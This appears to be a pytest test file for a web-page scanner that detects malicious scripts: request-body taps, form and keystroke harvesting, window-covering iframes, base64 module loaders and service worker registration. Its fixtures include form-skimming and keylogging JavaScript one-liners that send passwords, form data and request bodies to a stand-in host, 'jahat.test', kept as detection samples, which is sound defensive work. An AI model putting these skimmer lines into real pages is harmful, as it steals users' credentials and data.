"""Copies of what a page sends, permissions, modules and workers: read from scripts, never run."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cyberscan.parse.matter import page as matter
from cyberscan.parse.scripts import script as scripts

PAGE = "https://www.contoh.go.test/"
EVIL = "https://jahat.test/c"


def traits(source: str) -> set[str]:
    code = scripts.read(source, "script")
    return set(code.traits) if code else set()


TAPS = [
    f"w.fetch=function(a,b){{navigator.sendBeacon('{EVIL}',JSON.stringify(b));return f(a,b)}}",
    f"w.fetch=function(a,b){{navigator.sendBeacon('{EVIL}',b.body);return f(a,b)}}",
    f"window.fetch = async function (u, o) {{ axios('{EVIL}', {{body: o.body}}) }}",
    f"window.fetch=(u,o)=>{{navigator.sendBeacon('{EVIL}',btoa(o.body));return f(u,o)}}",
    f"XMLHttpRequest.prototype.send=function(d){{new Image().src='{EVIL}?'+d;s.call(this,d)}}",
    f"XMLHttpRequest.prototype.send=function(d){{navigator.sendBeacon('{EVIL}',d)}}",
]
NO_TAPS = [
    f"w.fetch=function(a,b){{navigator.sendBeacon('{EVIL}',J({{body:err,m:b.method}}));f(a,b)}}",
    # Without the body: monitors of errors and of times.
    f"w.fetch=function(a,b){{return f(a,b).catch(e=>navigator.sendBeacon('{EVIL}',e.message))}}",
    f"w.fetch=function(a,b){{navigator.sendBeacon('{EVIL}',a+status);return f(a,b)}}",
    # To an address that is set elsewhere.
    "w.fetch=function(a,b){navigator.sendBeacon(conf.url,b.body);return f(a,b)}",
    # To the site itself.
    "w.fetch=function(a,b){navigator.sendBeacon('/catat',b.body);return f(a,b)}",
    # A field more for all requests.
    "XMLHttpRequest.prototype.send=function(b){this.setRequestHeader('X-CSRF',t);s.call(this,b)}",
    # Nothing is wrapped.
    f"api.kirim=function(a,b){{navigator.sendBeacon('{EVIL}',b.body)}}",
    f"socket.send=function(d){{navigator.sendBeacon('{EVIL}',d)}}",
    # The wrapper has ended.
    f"w.fetch=function(a,b){{return f(a,b)}};navigator.sendBeacon('{EVIL}',form.body)",
]


@pytest.mark.parametrize("source", TAPS)
def test_copies_of_a_body_are_told_with_where_they_go(source: str) -> None:
    code = scripts.read(source, "script")
    assert code is not None
    assert "taps" in code.traits
    assert code.decoded.startswith(EVIL)


@pytest.mark.parametrize("source", NO_TAPS)
def test_other_wrappers_copy_nothing(source: str) -> None:
    assert "taps" not in traits(source)


@pytest.mark.parametrize(
    ("source", "gathers"),
    [
        (f"navigator.sendBeacon('{EVIL}',JSON.stringify([...new FormData(f)]))", True),
        (f"f.querySelectorAll('input').forEach(i=>d+=i.value);new Image().src='{EVIL}?'+d", True),
        (f"onkeydown=function(e){{k+=e.key;navigator.sendBeacon('{EVIL}',k)}}", True),
        (f"p=q('input[type=password]').value;navigator.sendBeacon('{EVIL}',p)", True),
        (f"fetch('{EVIL}',{{mode:'no-cors',method:'POST',body:new FormData(f)}})", True),
        # A key that is compared is no key that is kept.
        (f"onkeyup=function(e){{if(e.key==='Enter')f()}};navigator.sendBeacon('{EVIL}',p)", False),
        # Far from each other.
        (f"new FormData(f);{'a();' * 200}navigator.sendBeacon('{EVIL}',p)", False),
        # An answer is waited for.
        (f"fetch('{EVIL}',{{method:'POST',body:new FormData(f)}}).then(ok)", False),
    ],
)  # fmt: skip
def test_reading_and_sending_in_one_place_is_gathering(source: str, gathers: bool) -> None:
    assert ("gathers" in traits(source)) is gathers


@pytest.mark.parametrize(
    ("source", "asked"),
    [
        ("Notification.requestPermission()", True),
        ("window.Notification.requestPermission().then(f)", True),
        ("DeviceMotionEvent.requestPermission()", False),
        ("if(Notification.permission==='granted')f()", False),
    ],
)
def test_a_permission_to_notify_is_told(source: str, asked: bool) -> None:
    assert ("permission" in traits(source)) is asked


@pytest.mark.parametrize(
    ("source", "found"),
    [
        ("navigator.serviceWorker.register('/sw.js')", ("/sw.js",)),
        ("(function(n){n.serviceWorker.register('a.js',{scope:'/'})})(navigator)", ("a.js",)),
        ("const p='/x/';navigator.serviceWorker.register(p+'sw.js')", ("/x/sw.js",)),
        ("customElements.register('a-b')", ()),
        ("navigator.serviceWorker.ready.then(f)", ()),
        ("navigator.serviceWorker.register(conf.url)", ()),
    ],
)
def test_workers_are_found(source: str, found: tuple[str, ...]) -> None:
    assert scripts.workers(source) == found


@pytest.mark.parametrize(
    ("source", "covers"),
    [
        ("f.style.cssText='position:fixed;top:0;left:0;width:100%;height:100%'", True),
        ("f.setAttribute('style','position:fixed;inset:0')", True),
        ("f.style.cssText='position: fixed; top: 0; left: 0; right: 0; bottom: 0'", True),
        # Once somebody asks for it.
        ("b.onclick=function(){f.style.cssText='position:fixed;width:100%;height:100%'}", False),
        ("f.style.cssText='position:fixed;bottom:0;width:100%;height:60px'", False),
        ("f.style.cssText='position:absolute;width:100%;height:100%'", False),
    ],
)
def test_what_covers_the_window_at_load(source: str, covers: bool) -> None:
    made = "var f=document.createElement('iframe');f.src='https://jahat.test/';"
    assert ("covers" in traits(made + source)) is covers


def test_a_blob_that_is_called_a_script_is_followed() -> None:
    inside = 'document.location=\\"https://jahat.test/\\"'
    blob = f'new Blob(["{inside}"],{{type:"text/javascript"}})'
    assert scripts.moves(f"s.src=URL.createObjectURL({blob})") == ("https://jahat.test/",)
    file = 'new Blob(["location=\\"https://jahat.test/\\""],{type:"text/csv"})'
    assert scripts.moves(f"a.href=URL.createObjectURL({file})") == ()


MODULE = "data:text/javascript;base64,aW1wb3J0KCdodHRwczovL2phaGF0LnRlc3QvYS5qcycp"


@pytest.mark.parametrize(
    ("tag", "module"),
    [
        (f'<script type=module src="{MODULE}"></script>', True),
        # Plugins that make pages faster write classic scripts so.
        (f'<script src="{MODULE}"></script>', False),
        ("<script type=module>import('https://jahat.test/a.js')</script>", False),
        (
            "<script type=module src=\"data:text/javascript,import('//jahat.test/')\"></script>",
            False,
        ),
    ],
)
def test_a_module_in_base64_is_told(tag: str, module: bool) -> None:
    found = matter.read(f"<p>x{tag}", PAGE, "contoh.go.test")
    assert any("module" in code.traits for code in found.codes) is module
    assert found.codes[0].hosts == ("jahat.test",)


def test_static_imports_of_others_are_told() -> None:
    assert traits("import a from 'https://jahat.test/a.js'; a()") == {"bare", "loader"}
    assert traits("import 'https://jahat.test/a.js'") == {"bare", "loader"}
    assert traits("import a from './a.js'; a()") == set()


def test_an_import_map_takes_scripts_from_others() -> None:
    source = """<script type=importmap>{"imports": {"a": "https://cdn.test/a.js", "b": "/b.js",
        "c": "https://www.contoh.go.test/c.js"}, "scopes": {"/x/": {"d": "//lain.test/d.js"}}}
        </script>"""
    found = matter.read(source, PAGE, "contoh.go.test")
    taken = [(p.kind, p.host) for p in found.pointers]
    assert taken == [("script", "cdn.test"), ("script", "lain.test")]


def test_own_files_are_found_in_the_pages_order() -> None:
    source = """<script src=/js/a.js></script><script src=//cdn.test/x.js></script>
        <noscript><script src=/js/n.js></script></noscript><script src=js/b.js></script>
        <script src=/js/a.js></script><script>navigator.serviceWorker.register('sw.js')</script>
        <script>navigator.serviceWorker.register('https://lain.test/sw.js')</script>"""
    files = matter.look(source, PAGE, "contoh.go.test").files
    assert [(file.kind, file.url.removeprefix(PAGE)) for file in files] == [
        ("script", "js/a.js"), ("script", "js/b.js"), ("worker", "sw.js"),
    ]  # fmt: skip


PIECES = (
    "w.fetch=function(a,b){", "XMLHttpRequest.prototype.send=function(d){", "}", "(", ")", ";",
    f"navigator.sendBeacon('{EVIL}',b.body)", "new Blob(['", "'],{type:'text/javascript'})",
    "import ", "from 'https://a.test/'", "k+=e.key", "serviceWorker.register('", "'",
)  # fmt: skip


@given(st.lists(st.sampled_from(PIECES), max_size=60).map("".join))
def test_no_script_makes_it_raise(source: str) -> None:
    scripts.read(source, "script")
    assert len(scripts.workers(source)) <= 5


@pytest.mark.parametrize("unit", PIECES)
def test_a_long_script_comes_to_an_end(unit: str) -> None:
    scripts.read(unit * (40_000 // len(unit)), "script")
